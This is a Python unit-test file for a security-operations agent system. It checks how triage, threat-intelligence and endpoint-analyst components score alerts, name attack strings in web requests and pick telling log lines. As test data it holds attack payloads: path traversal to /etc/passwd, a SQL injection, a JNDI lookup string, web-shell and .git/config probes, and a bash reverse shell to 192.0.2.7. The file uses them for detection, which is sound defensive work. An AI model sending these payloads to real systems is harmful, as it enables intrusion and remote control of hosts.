"""What each specialist concludes from the results of its tools."""

from __future__ import annotations

from typing import Any

import pytest

from services.agents.roster.endpoint_analyst import judgement as endpoint
from services.agents.roster.threat_intel import judgement as intel
from services.agents.roster.triage import judgement as triage
from services.agents.toolkit.evidence import most_telling
from services.agents.toolkit.signs import MALICIOUS_FROM, SUSPICIOUS_FROM, Sign, score
from shared.contracts.investigations import Citation
from tests.unit.agents.agent_kit import NOW, citation

CITED = citation({})


def alert(severity: str = "medium", **changes: Any) -> dict[str, Any]:
    base = {
        "id": "ALRT-2026-000001",
        "title": "A rule",
        "severity": severity,
        "rule_id": "rule-1",
        "count": 1,
        "mitre_techniques": ["T1059"],
        "entities": {"host": "web01", "user": "deploy", "process_pid": "42"},
        "first_seen": "2026-11-22T02:00:00.000Z",
        "last_seen": "2026-11-22T02:00:00.000Z",
    }
    return {**base, **changes}


def history(dismissed: int) -> Citation:
    return citation({"count": dismissed, "dismissed": dismissed, "hosts": [], "first_seen": None})


def nearby(*others: dict[str, Any]) -> Citation:
    return citation({"alerts": list(others)})


def other(title: str = "Another", severity: str = "high", **entities: str) -> dict[str, Any]:
    return {"id": title, "title": title, "severity": severity, "rule_id": title, "entities": entities}


def test_a_higher_level_of_the_rule_speaks_louder() -> None:
    levels = [
        score(triage.rule_signs(alert(level), CITED, None)) for level in ("info", "low", "medium", "high", "critical")
    ]
    assert levels == sorted(levels)
    assert len(set(levels)) == 5
    assert levels[-2] < MALICIOUS_FROM <= levels[-1]


def test_what_analysts_dismissed_before_speaks_half_as_loud_and_is_told() -> None:
    signs = triage.rule_signs(alert("high"), CITED, history(3))
    assert score(signs) == pytest.approx(score(triage.rule_signs(alert("high"), CITED, history(0))) / 2)
    assert "dismissed 3" in signs[1].claim


def test_a_rule_that_has_fired_for_days_speaks_half_as_loud() -> None:
    daily = alert("high", count=40, first_seen="2026-11-18T02:00:00.000Z")
    assert score(triage.rule_signs(daily, CITED, None)) < SUSPICIOUS_FROM


def test_a_rule_that_sees_only_turned_text_speaks_half_as_loud() -> None:
    turned = alert("high", mitre_techniques=["T1036.002"])
    assert score(triage.rule_signs(turned, CITED, None)) == score(triage.rule_signs(alert("high"), CITED, None)) / 2


def test_severe_alerts_of_the_same_account_or_process_are_company() -> None:
    by_user = triage.company_signs(alert(), nearby(other(user="deploy")), set())
    by_process = triage.company_signs(alert(), nearby(other(process_pid="42", user="root")), set())
    assert by_user[0].weight == by_process[0].weight > 0


@pytest.mark.parametrize(
    "found",
    [
        nearby(other(user="alice")),
        nearby(other(severity="medium", user="deploy")),
        nearby(),
    ],
    ids=["another account", "not severe", "none"],
)
def test_strangers_and_small_alerts_are_no_company(found: Citation) -> None:
    assert triage.company_signs(alert(), found, set()) == []


def test_sharing_a_system_account_means_nothing() -> None:
    ours = alert(entities={"host": "web01", "user": "root"})
    assert triage.company_signs(ours, nearby(other(user="root"), other(user="SYSTEM")), set()) == []


def test_company_alone_never_makes_a_low_alert_malicious() -> None:
    crowd = nearby(*(other(f"rule {number}", user="deploy") for number in range(20)))
    low = alert("low")
    assert score([*triage.rule_signs(low, CITED, None), *triage.company_signs(low, crowd, set())]) < SUSPICIOUS_FROM


def test_alerts_of_the_same_investigation_are_no_company() -> None:
    assert triage.company_signs(alert(), nearby(other("joined", user="deploy")), {"joined"}) == []


def words(severity: str, count: int) -> list[list[Sign]]:
    """What so many further rules of an investigation say."""
    alerts = [alert(severity, id=f"ALRT-2026-{number:06}", rule_id=f"rule-{number}") for number in range(2, count + 2)]
    return [triage.rule_signs(item, citation(item), None) for item in alerts]


def test_further_severe_rules_of_an_investigation_add_to_the_first() -> None:
    first = triage.rule_signs(alert("high"), CITED, None)
    totals = [score([*first, *triage.joined_signs(words("high", count))]) for count in range(4)]
    assert totals == sorted(totals)
    assert totals[0] < totals[1]


def test_any_number_of_small_rules_only_informs() -> None:
    first = triage.rule_signs(alert("medium"), CITED, None)
    joined = triage.joined_signs(words("medium", 20) + words("low", 20))
    assert len(joined) == 40
    assert score([*first, *joined]) == score(first)


def test_a_command_seen_for_days_is_ordinary_and_one_seen_today_is_not() -> None:
    assert triage.is_ordinary({"count": 9, "first_seen": "2026-11-19T02:00:00.000Z"}, NOW)
    assert not triage.is_ordinary({"count": 9, "first_seen": "2026-11-22T01:00:00.000Z"}, NOW)
    assert not triage.is_ordinary({"count": 2, "first_seen": "2026-11-19T02:00:00.000Z"}, NOW)
    assert not triage.is_ordinary({"count": 0, "first_seen": None}, NOW)


def requests(count: int, paths: int, statuses: dict[str, int]) -> Citation:
    values = {"http.response.status_code": statuses}
    return citation({"count": count, "values": values, "distinct": {"url.path": paths}})


def test_many_paths_that_are_not_there_are_probing_and_a_visit_is_not() -> None:
    assert intel.probing_signs("192.0.2.7", requests(40, 40, {"404": 38, "200": 2}))[0].kind == "probing"
    assert intel.probing_signs("192.0.2.7", requests(40, 40, {"200": 36, "404": 4})) == []
    assert intel.probing_signs("192.0.2.7", requests(40, 3, {"404": 40})) == []


@pytest.mark.parametrize(
    ("url", "kind"),
    [
        ("/?file=../../../../etc/passwd", "path-traversal"),
        ("/?file=%252e%252e%252fetc%252fpasswd", "path-traversal"),
        ("/s?q=1%27+UNION+SELECT+NULL,NULL--", "sql-injection"),
        ("/?q=${jndi:ldap://192.0.2.7/a}", "jndi"),
        ("/uploads/c99.php", "web-shell"),
        ("/.git/config", "secret-file"),
    ],
)
def test_an_attack_string_in_a_request_is_named(url: str, kind: str) -> None:
    assert kind in {sign.kind for sign in intel.request_signs(url, "Mozilla/5.0", "404", CITED)}


@pytest.mark.parametrize(
    "url", ["/", "/index.html?page=2", "/search?q=union+station", "/static/app.js", "/api/users/42"]
)
def test_a_visitors_request_gives_no_sign(url: str) -> None:
    assert intel.request_signs(url, "Mozilla/5.0 (X11; Linux x86_64)", "200", CITED) == []


def test_an_attack_that_was_answered_weighs_more_than_one_that_was_refused() -> None:
    url = "/?file=../../../../etc/passwd"
    answered = score(intel.request_signs(url, "curl", "200", CITED))
    assert answered > score(intel.request_signs(url, "curl", "404", CITED))
    assert answered >= MALICIOUS_FROM


def test_an_unknown_indicator_is_told_and_never_guessed() -> None:
    assert "45.33.32.156" in intel.unknown_note(["45.33.32.156"])
    assert intel.sighting_sign("45.33.32.156", citation({"count": 3, "values": {}})).weight == 0


def test_an_ordinary_tree_says_little_of_a_small_alert_and_nothing_of_a_severe_one() -> None:
    tree = citation({"processes": [{"command_line": "bash"}, {"command_line": "ls"}]})
    assert 0 < endpoint.clean("medium", [tree]) < 0.5
    assert endpoint.clean("high", [tree]) == endpoint.clean("critical", [tree]) == 0


def test_a_process_seen_alone_is_no_tree() -> None:
    assert endpoint.clean("low", [citation({"processes": [{"command_line": "ls"}]})]) == endpoint.clean("low", []) == 0


def test_of_the_same_command_the_closest_process_counts() -> None:
    found = endpoint.distinct(
        [
            {"command_line": "sh", "relation": "ancestor"},
            {"command_line": "sh"},
            {"command_line": "", "relation": "self"},
        ]
    )
    assert found == [{"command_line": "sh"}]


def started(**changes: Any) -> dict[str, Any]:
    """A process of the tree that a document program started."""
    base = {
        "parent_executable": "C:\\x\\WINWORD.EXE",
        "executable": "C:\\y\\cmd.exe",
        "timestamp": "2026-11-22T02:14:00.000Z",
        "relation": "self",
    }
    return {**base, **changes}


def past(count: int, days: int) -> Citation:
    """So many starts of a pair in the weeks before."""
    return citation({"count": count, "days": days, "hosts": 1, "first_seen": None, "last_seen": None})


def test_a_document_that_starts_a_shell_is_told_with_the_command() -> None:
    [pair] = endpoint.telling_pairs([started()])
    [sign] = endpoint.pair_signs(pair, CITED, past(0, 0), past(3, 1))
    assert (sign.kind, sign.weight) == ("office-shell", 0.85)
    assert "cmd.exe" in sign.claim


def test_a_pair_that_this_estate_shows_for_days_speaks_half_as_loud() -> None:
    [pair] = endpoint.telling_pairs([started()])
    [sign] = endpoint.pair_signs(pair, CITED, past(9, 4), None)
    assert sign.weight == pytest.approx(0.85 / 2)
    [once] = endpoint.pair_signs(pair, CITED, past(9, 1), None)
    assert once.weight == 0.85


def test_a_first_child_of_a_program_that_has_long_started_others_is_new_but_proves_little() -> None:
    ordinary = started(parent_executable="C:\\app\\agent.exe", executable="C:\\app\\tool.exe")
    [pair] = endpoint.telling_pairs([ordinary])
    [sign] = endpoint.pair_signs(pair, CITED, past(0, 0), past(400, 12))
    assert (sign.kind, sign.weight < SUSPICIOUS_FROM) == ("new-pair", True)
    assert endpoint.pair_signs(pair, CITED, past(0, 0), past(4, 1)) == []


def test_only_odd_pairs_are_looked_at_beyond_the_alerts_own_processes() -> None:
    stranger = started(parent_executable="C:\\a.exe", executable="C:\\b.exe", relation="descendant")
    odd = started(relation="ancestor")
    assert [pair.child for pair in endpoint.telling_pairs([stranger, odd])] == ["C:\\y\\cmd.exe"]


def test_of_many_events_the_telling_ones_are_looked_at_and_the_rest_evenly() -> None:
    quiet = [{"log_id": str(number), "message": f"id {number}"} for number in range(50)]
    loud = {"log_id": "loud", "message": "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"}
    chosen = [item["log_id"] for item in most_telling([*quiet[:25], loud, *quiet[25:]], 6)]
    assert chosen == ["loud", "0", "12", "24", "36", "49"]


def test_a_line_that_repeats_comes_after_all_others_and_evenly() -> None:
    repeated = [{"log_id": str(number), "message": "the same"} for number in range(50)]
    once = {"log_id": "once", "message": "another"}
    chosen = [item["log_id"] for item in most_telling([*repeated, once], 4)]
    assert set(chosen[:2]) == {"49", "once"}
    assert chosen[2:] == ["0", "48"]


def test_an_alert_of_few_events_is_looked_at_whole() -> None:
    few = [{"log_id": str(number), "message": "the same"} for number in range(3)]
    assert sorted(item["log_id"] for item in most_telling(few, 6)) == ["0", "1", "2"]
